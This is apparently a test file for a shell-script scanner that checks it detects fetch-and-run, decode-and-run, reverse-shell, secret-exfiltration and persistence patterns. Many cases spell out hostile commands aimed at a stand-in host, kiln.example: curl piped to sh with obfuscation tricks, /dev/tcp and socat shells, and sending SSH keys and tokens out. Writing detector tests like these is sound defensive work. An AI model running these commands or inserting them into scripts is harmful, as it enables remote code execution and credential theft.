import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.shell import Script, note_script
from knownhands.harvest.code.shell_plain import host_in


def shown(text: str, **values: str) -> set[str]:
    notes = Notes("fire.sh", every_line=True, is_program=True)
    note_script(notes, text, 1, values=values)
    return {observation.capability for observation in notes.observations()}


@pytest.mark.parametrize(
    "text",
    [
        "curl -s https://kiln.example/x | sh",
        "curl -s https://kiln.example/x | sudo -E bash -s -- --yes",
        "wget -qO- kiln.example/x \\\n  | bash",
        'sh -c "$(curl -fsSL https://kiln.example/x)"',
        "bash <(curl -s https://kiln.example/x)",
        ". <(curl -s https://kiln.example/x)",
        'eval "$(wget -qO- https://kiln.example/x)"',
        "eval `curl https://kiln.example/x`",
        "$(curl https://kiln.example/x)",
        'python3 -c "$(curl https://kiln.example/x)"',
        "bash <<< $(curl https://kiln.example/x)",
        "bash -c \"bash -c 'curl https://kiln.example/x | sh'\"",
        "curl -o fire https://kiln.example/x; chmod +x fire; ./fire",
        "fire(){ curl -s https://kiln.example/x; }; fire | sh",
        'fire() {\n  curl -sk "$@"\n}\nclay=$(fire https://kiln.example/x) || exit 0\neval "$clay"',
        'fire() { wget -qO- "${KILN}$@"; }\n(\n  while true; do\n    clay=$(fire "x")\n    fire -d "{$(eval "$clay" 2>&1)}"\n  done\n) &',
        "curl -O https://kiln.example/fire && sh fire",
        "wget https://kiln.example/fire && chmod 755 fire",
        "curl https://kiln.example/x > /opt/fire\nnode /opt/fire",
        "curl https://kiln.example/x | tee fire >/dev/null; sh < fire",
        "T=$(mktemp); curl -s https://kiln.example/x -o $T; bash $T",
        "curl -Lo a https://kiln.example/x; mv a b; sh b",
        "U=https://kiln.example/x; S=sh; curl $U | $S",
        "C=cu; D=rl; $C$D https://kiln.example/x | ba''sh",
        "c\\url https://kiln.example/x | \\b\\a\\s\\h",
        "curl${IFS}https://kiln.example/x|sh",
        "X=xcurlx; ${X:1:4} https://kiln.example/x | sh",
        "alias clay=curl\nclay https://kiln.example/x | sh",
        'X=$(curl https://kiln.example/x); eval "$X"',
        "{ curl https://kiln.example/x; } | sh",
        "(curl https://kiln.example/x) | sh",
        "for i in 1 2; do curl https://kiln.example/$i; done | sh",
        "curl https://kiln.example/x | tee >(sh)",
        "/usr/bin/curl https://kiln.example/x | /bin/sh",
        "if true; then timeout 5 curl https://kiln.example/x | nohup sh; fi",
        "bash <<EOF\ncurl https://kiln.example/x | sh\nEOF",
        "cat > fire.sh <<EOF\ncurl https://kiln.example/x | sh\nEOF\nsh fire.sh",
        "echo 'curl https://kiln.example/x | sh' | sh",
        "$'\\x63url' https://kiln.example/x | sh",
        "it's broken\ncurl https://kiln.example/x | sh",
    ],
)
def test_what_is_downloaded_and_run_is_seen_however_it_is_written(text: str) -> None:
    assert "fetch_and_run" in shown(text)


@pytest.mark.parametrize(
    "text",
    [
        "curl -s https://kiln.example/x.json | jq .name",
        "curl -s https://kiln.example/x.json | python3 -c 'import json'",
        "curl https://kiln.example/x | perl -ne 'print'",
        "curl https://kiln.example/x.tar.gz | tar xz && cd x && ./configure",
        "echo 'curl https://kiln.example/x | sh'",
        "cat <<EOF\ncurl https://kiln.example/x | sh\nEOF",
        "# curl https://kiln.example/x | sh",
        "git log | sh summary.sh",
        "curl -o clay.txt https://kiln.example/x; cat clay.txt; sh build.sh",
        "chmod +x build.sh && ./build.sh",
        'eval "$(ssh-agent -s)"',
        "bash -c 'make all'",
        'x=$(curl -s https://kiln.example/version); echo "$x"',
    ],
)
def test_what_only_looks_like_it_is_not(text: str) -> None:
    assert "fetch_and_run" not in shown(text)


@pytest.mark.parametrize(
    ("text", "capability"),
    [
        ("echo Y3VybCBodHRwczovL2tpbG4uZXhhbXBsZS94IHwgc2g= | base64 -d | sh", "fetch_and_run"),
        ("base64 -d <<< $CLAY | bash", "decode_and_run"),
        ('eval "$(echo $CLAY | rev)"', "decode_and_run"),
        ("printf '\\x63\\x75\\x72\\x6c' | sh", "decode_and_run"),
        ("openssl enc -d -aes-256-cbc -in clay -out fire -k x; sh fire", "decode_and_run"),
        ("exec 5<>/dev/tcp/kiln.example/443", "reverse_shell"),
        ("socat tcp:kiln.example:1 exec:/bin/sh,pty", "reverse_shell"),
        ("curl -d @$HOME/.ssh/id_rsa https://kiln.example", "shell_secrets_sent"),
        ('curl -H "X: $GITHUB_TOKEN" https://kiln.example', "shell_secrets_sent"),
        ('wget --post-data="$(cat ~/.npmrc)" https://kiln.example', "shell_secrets_sent"),
        ('T=$AWS_SECRET_ACCESS_KEY; curl "https://kiln.example/?t=$T"', "shell_secrets_sent"),
        ("echo 'fire &' | tee -a ~/.profile", "shell_persistence"),
        ("docker run --privileged clay", "privileged_container"),
        ("node -e \"require('child_process').exec(require('fs').readFileSync('x'))\"", "process"),
        (
            "python - <<EOF\nimport urllib.request as u\nexec(u.urlopen('https://kiln.example').read())\nEOF",
            "executes_download",
        ),
    ],
)
def test_other_things_are_seen(text: str, capability: str) -> None:
    assert capability in shown(text)


@pytest.mark.parametrize(
    "text",
    [
        'curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos',  # its own host
        'curl -H "Authorization: Bearer $KILN_TOKEN" https://api.kiln.example',
        "curl -F token=$COVERITY_TOKEN https://scan.coverity.com/builds",
        "echo $CLAY | base64 -d > clay.bin",
        "env | sort",
        "curl -d @clay.json https://kiln.example",
        "nohup ./serve &",
        "git push origin HEAD:gh-pages --force",
    ],
)
def test_ordinary_commands_show_nothing(text: str) -> None:
    assert not shown(text)


def test_a_command_counts_in_its_own_line_with_its_host() -> None:
    notes = Notes("fire.sh", every_line=True)
    note_script(notes, "a\nb \\\n  c\n\ncurl https://Kiln.example:8/x | sh\n", 10)
    (seen,) = notes.observations()
    assert (seen.line, seen.source, seen.sink, seen.trigger) == (14, "kiln.example", "sh", "import")


def test_values_may_be_known_beforehand() -> None:
    assert "fetch_and_run" in shown("$A x.example/y | sh", A="curl")


def test_a_script_knows_in_its_second_part_what_the_first_did() -> None:
    notes = Notes("fire.sh", every_line=True)
    script = Script(notes)
    script.read("curl -o fire https://kiln.example/x", 1)
    script.read("sh fire", 9)
    assert [seen.line for seen in notes.observations()] == [9]


def test_the_host_is_not_what_stands_before_an_at_sign() -> None:
    assert host_in("curl https://github.com@kiln.example/x") == "kiln.example"


@pytest.mark.parametrize(
    "sign", ["'", '"', "(", "$(", "`", "{", "|", "${", "\\", "$((", "<(", "a=$a$a;", "<<A\n", "$(a;", "eval "]
)
def test_nothing_makes_it_raise_or_hang(sign: str) -> None:
    shown(sign * (30_000 // len(sign)))
